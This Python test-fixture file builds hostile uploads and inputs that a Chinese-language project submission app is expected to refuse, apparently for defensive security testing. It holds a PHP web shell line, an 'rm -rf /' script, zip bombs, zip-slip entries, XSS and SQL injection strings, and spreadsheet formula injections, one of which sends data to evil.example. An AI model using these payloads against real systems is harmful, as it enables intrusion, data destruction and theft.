"""Hostile inputs for ``test_hostile_input``: files, archives, texts, amounts and dates an attacker (or a
careless client) sends, each with what the user must be told. Builders make the files in memory."""

from __future__ import annotations

import io
import struct
import zipfile
from dataclasses import dataclass, field

from conftest import PDF_BYTES

PDF = PDF_BYTES
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"\x00" * 17
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 32
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
HTML = "<html><body><script>alert('xss')</script>申报材料</body></html>".encode()
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
PHP = b"<?php system($_GET['cmd']); ?>"
SHELL = b"#!/bin/sh\nrm -rf /\n"


def zip_of(
    entries: list[tuple[str, bytes]],
    *,
    compression: int = zipfile.ZIP_DEFLATED,
    unix_mode: int | None = None,
    encrypted: bool = False,
) -> bytes:
    """A zip archive of ``entries``; ``unix_mode`` marks every entry (e.g. a symlink), ``encrypted`` sets the
    traditional-encryption flag bit in both headers."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for name, content in entries:
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            info.compress_type = compression
            if unix_mode is not None:
                info.external_attr = unix_mode << 16
                info.create_system = 3
            archive.writestr(info, content)
    data = buffer.getvalue()
    if encrypted:
        data = _flag_encrypted(data)
    return data


def _flag_encrypted(data: bytes) -> bytes:
    """Set bit 0 (encrypted) of the general-purpose flags in every local and central header."""
    out = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (found := out.find(signature, start)) != -1:
            (flags,) = struct.unpack_from("<H", out, found + offset)
            struct.pack_into("<H", out, found + offset, flags | 1)
            start = found + 4
    return bytes(out)


OOXML_TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
)


def docx_of(document: bytes) -> bytes:
    return zip_of([("[Content_Types].xml", OOXML_TYPES), ("word/document.xml", document)])


def xlsx_shell(workbook: bytes) -> bytes:
    return zip_of([("[Content_Types].xml", OOXML_TYPES), ("xl/workbook.xml", workbook)])


BOMB = b"\x00" * (8 * 1024 * 1024)  # 8 MiB of zeros: compresses more than a thousand-fold


def zip_bomb() -> bytes:
    return zip_of([("报告.pdf", BOMB)])


def docx_bomb() -> bytes:
    return docx_of(BOMB)


def many_entries(count: int) -> bytes:
    return zip_of([(f"附件/{i:05d}.txt", b"") for i in range(count)], compression=zipfile.ZIP_STORED)


@dataclass(frozen=True)
class Upload:
    """A file posted as a project's material, and a word the refusal must contain."""

    id: str
    name: str
    content: bytes
    expect: str
    code: str = "data_sharing_list"
    category: str = "files"
    extra: dict[str, str] = field(default_factory=dict)


UPLOADS_REFUSED: list[Upload] = [
    Upload("exe-as-pdf", "可研报告.pdf", EXE, "文件内容不是允许的格式"),
    Upload("elf-as-pdf", "可研报告.pdf", ELF, "文件内容不是允许的格式"),
    Upload("html-as-pdf", "可研报告.pdf", HTML, "文件内容不是允许的格式"),
    Upload("svg-script", "图示.svg", SVG, "文件内容不是允许的格式"),
    Upload("php-as-jpg", "照片.php.jpg", PHP, "文件内容不是允许的格式"),
    Upload("shell-as-docx", "方案.docx", SHELL, "文件内容不是允许的格式"),
    Upload("png-as-pdf", "扫描件.pdf", PNG, "与实际内容（PNG）不符"),
    Upload("jpeg-as-png", "照片.png", JPEG, "与实际内容（JPG）不符"),
    Upload("ole-as-pdf", "方案.pdf", OLE, "与实际内容（DOC）不符"),
    Upload("pdf-as-docx", "方案.docx", PDF, "与实际内容（PDF）不符"),
    Upload("gif-html-polyglot", "图示.pdf", GIF + b"<script>alert(1)</script>", "文件内容不是允许的格式"),
    Upload("jpeg-html-polyglot", "页面.html", JPEG + HTML, "扩展名“.html”与实际内容（JPG）不符"),
    Upload("pdf-named-exe", "方案.pdf.exe", PDF, "扩展名“.exe”与实际内容（PDF）不符"),
    Upload("exe-named-pdf", "方案.exe.pdf", EXE, "文件内容不是允许的格式"),
    Upload("pdf-named-js", "方案.pdf.js", PDF, "扩展名“.js”与实际内容（PDF）不符"),
    Upload("pdf-no-extension", "方案", PDF, "扩展名“.无”与实际内容（PDF）不符"),
    Upload("pdf-named-htaccess", ".htaccess", PDF, "与实际内容（PDF）不符"),
    Upload("rtl-override-exe", "报告\u202efdp.exe", PDF, "扩展名“.exe”与实际内容（PDF）不符"),
    Upload("empty-file", "空文件.pdf", b"", "文件为空"),
    Upload("unknown-requirement", "方案.pdf", PDF, "没有这项材料要求", code="moon_landing_permit"),
    Upload("requirement-traversal", "方案.pdf", PDF, "没有这项材料要求", code="../../settings"),
    Upload(
        "format-not-accepted", "申报表.docx", docx_of(b"<w:document/>"), "只接受", code="declaration_form"
    ),
    Upload("truncated-docx", "方案.docx", docx_of(b"<w:document/>")[:60], "文件"),
    Upload("zip-bomb", "材料.zip", zip_bomb(), "疑似压缩炸弹", category="archives"),
    Upload("docx-zip-bomb", "方案.docx", docx_bomb(), "疑似压缩炸弹", category="archives"),
    Upload("xlsx-zip-bomb", "预算.xlsx", xlsx_shell(BOMB), "疑似压缩炸弹", category="archives"),
    Upload(
        "zip-slip", "材料.zip", zip_of([("../../../etc/cron.d/evil", SHELL)]), "非法路径", category="archives"
    ),
    Upload(
        "zip-slip-nested-dir",
        "材料.zip",
        zip_of([("a/../../b/x.sh", SHELL)]),
        "非法路径",
        category="archives",
    ),
    Upload(
        "zip-absolute-path", "材料.zip", zip_of([("/etc/passwd", b"root")]), "非法路径", category="archives"
    ),
    Upload(
        "docx-with-zip-slip",
        "方案.docx",
        zip_of([("word/document.xml", b"<w:document/>"), ("../../evil.sh", SHELL)]),
        "非法路径",
        category="archives",
    ),
    Upload("zip-too-many-entries", "材料.zip", many_entries(2001), "文件过多", category="archives"),
    Upload("zip-corrupt", "材料.zip", zip_of([("a.txt", b"x" * 100)])[:-30], "已损坏", category="archives"),
]

# Archives the server never unpacks: refused, or kept as an opaque file under a generated name.
ARCHIVES_OPAQUE: list[Upload] = [
    Upload(
        "nested-zip-bomb", "材料.zip", zip_of([("inner.zip", zip_bomb())], compression=zipfile.ZIP_STORED), ""
    ),
    Upload("encrypted-zip", "材料.zip", zip_of([("密码.txt", b"secret" * 10)], encrypted=True), ""),
    Upload("symlink-entry", "材料.zip", zip_of([("passwd", b"/etc/passwd")], unix_mode=0o120777), ""),
    Upload("backslash-traversal", "材料.zip", zip_of([("..\\..\\windows\\evil.bat", SHELL)]), ""),
    Upload("zip-2000-entries", "材料.zip", many_entries(2000), ""),
]

# Hostile names on a genuine PDF: kept under a generated path, shown by a cleaned name.
HOSTILE_NAMES: list[tuple[str, str]] = [
    ("dot-dot-slash", "../../etc/passwd.pdf"),
    ("dot-dot-backslash", "..\\..\\windows\\system32\\方案.pdf"),
    ("absolute-path", "/var/lib/govit/media/方案.pdf"),
    ("nul-byte", "方案\x00.exe.pdf"),
    ("rtl-override", "报告\u202egpj.pdf"),
    ("zero-width", "方\u200b案\ufeff.pdf"),
    ("name-300-chars", "超长文件名" * 60 + ".pdf"),
    ("windows-con", "CON.pdf"),
    ("windows-lpt1", "LPT1.pdf"),
    ("windows-reserved-chars", 'a<b>c:d"e|f?g*.pdf'),
    ("trailing-dots-spaces", "方案.pdf. . ."),
    ("newline-header-injection", "方案\r\nContent-Type: text/html.pdf"),
]

# Markup: refused wherever a user types text.
MARKUP = [
    "<script>alert('党政')</script>",
    '智慧校园"><img src=x onerror=alert(1)>',
    "<svg/onload=alert(document.cookie)>",
    "项目<iframe src=javascript:alert(1)>",
    "< script >alert(1)</ script >",
    "<a href='javascript:alert(1)'>点击</a>",
]

# Texts that are not markup but are dangerous if printed unescaped: kept as typed, shown escaped.
ESCAPED = [
    '平台" onmouseover="alert(1)',
    "平台' onfocus='alert(1)' autofocus='",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ request.user.password }}{% debug %}",
    "＜script＞alert(1)＜/script＞",
    "投资<100万 & >50万",
    "a<1 && b>2 || c<=3",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003e",
    "${alert(1)}`${7*7}`",
]

SQL_LIKE = [
    "' OR '1'='1",
    "'; DROP TABLE projects_project; --",
    '" OR ""="',
    "1; SELECT pg_sleep(5)",
    "admin'--",
    "1' UNION SELECT username, password FROM accounts_user--",
    "%",
    "_",
    "\\",
    "%' AND 1=1 --",
    "平台）；DELETE FROM audit_auditevent；--",
]

# Text cells of an import that spreadsheet programs would read as a formula.
FORMULA_TEXT = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
    "=1+1",
]
FORMULA_AMOUNT = ["=50*2", "=cmd|' /C calc'!A0", "@SUM(100)", "=SUM(F2:F3)"]
